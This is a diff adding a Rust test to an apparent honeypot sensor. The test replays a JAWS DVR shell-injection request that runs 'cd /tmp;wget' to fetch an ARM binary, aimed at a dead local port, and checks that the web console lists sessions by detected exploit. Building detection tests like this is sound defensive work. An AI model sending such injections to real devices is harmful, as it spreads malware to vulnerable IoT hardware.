@@ -603,3 +603,47 @@ fn over_its_own_tls_the_console_answers_and_plain_http_does_not() {
     let _ = std::io::Read::read_to_end(&mut plain, &mut answer);
     assert!(!answer.starts_with(b"HTTP/1.1 200"), "{answer:?}");
 }
+
+#[test]
+fn sessions_filter_by_the_exploit_they_sent() {
+    let sensor = Sensor::start_http_web("profile = \"xiongmai-dvr\"\n");
+    let (http, web) = (sensor.http.unwrap(), sensor.web.unwrap());
+    // JAWS's shell injection, as a bot sends it (the download goes nowhere: no fetch).
+    let mut bot = util::tcp_from(http, source(75)).unwrap();
+    std::io::Write::write_all(
+        &mut bot,
+        format!(
+            "GET /shell?cd+/tmp;wget+http://127.0.0.1:9/x.arm7 HTTP/1.1\r\nHost: {http}\r\n\r\n"
+        )
+        .as_bytes(),
+    )
+    .unwrap();
+    let mut answer = Vec::new();
+    let _ = std::io::Read::read_to_end(&mut bot, &mut answer);
+    // And a telnet session that sent none.
+    let mut c = sensor.connect_from(source(76));
+    c.login();
+    c.send(b"exit\r\n");
+    c.read_to_close(STEP);
+    util::web::wait_for_sessions(web, 2);
+
+    let listed = |query: &str| -> Vec<String> {
+        let page = get(web, &format!("/sessions?{query}"));
+        assert_eq!(page.status, 200, "{query}");
+        page.body
+            .match_indices(r#"<td><a href="/sessions?src="#)
+            .map(|(i, _)| page.body[i + 27..].split('"').next().unwrap().to_string())
+            .collect()
+    };
+    assert_eq!(listed("exploit=jaws-shell"), [source(75).to_string()]);
+    assert!(listed("exploit=no-such-exploit").is_empty());
+    assert_eq!(listed("").len(), 2);
+    let overview = get(web, "/?span=all");
+    assert!(
+        overview
+            .body
+            .contains(r#"<a href="/sessions?exploit=jaws-shell">jaws-shell"#),
+        "{}",
+        overview.body
+    );
+}
